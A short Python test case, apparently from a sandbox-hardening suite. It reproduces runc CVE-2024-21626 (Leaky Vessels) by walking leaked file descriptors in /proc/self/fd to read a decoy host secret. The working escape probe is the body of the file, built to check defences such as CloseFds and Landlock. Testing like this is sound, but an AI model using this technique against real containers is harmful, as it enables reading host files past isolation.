# guest: reads the host through a directory that was left open
# source: runc CVE-2024-21626 (Leaky Vessels)
# attacks: the host's files
# walls: CloseFds, Landlock
# observer: secret_in_output
# oracle: a secret of the host's comes out
# status: ok
# credit: descriptors
# note: the test build makes the mistake of leaving it open in every box; the release build has no such
#   directory to leave.
import os

from attack import attempt, tell

found = [int(name) for name in os.listdir("/proc/self/fd")]
tell("descriptors", found)
for number in found:
    for name in ("decoy/secret", "../decoy/secret"):
        try:
            file = os.open(name, os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        attempt(name, lambda: print(os.read(file, 100)))
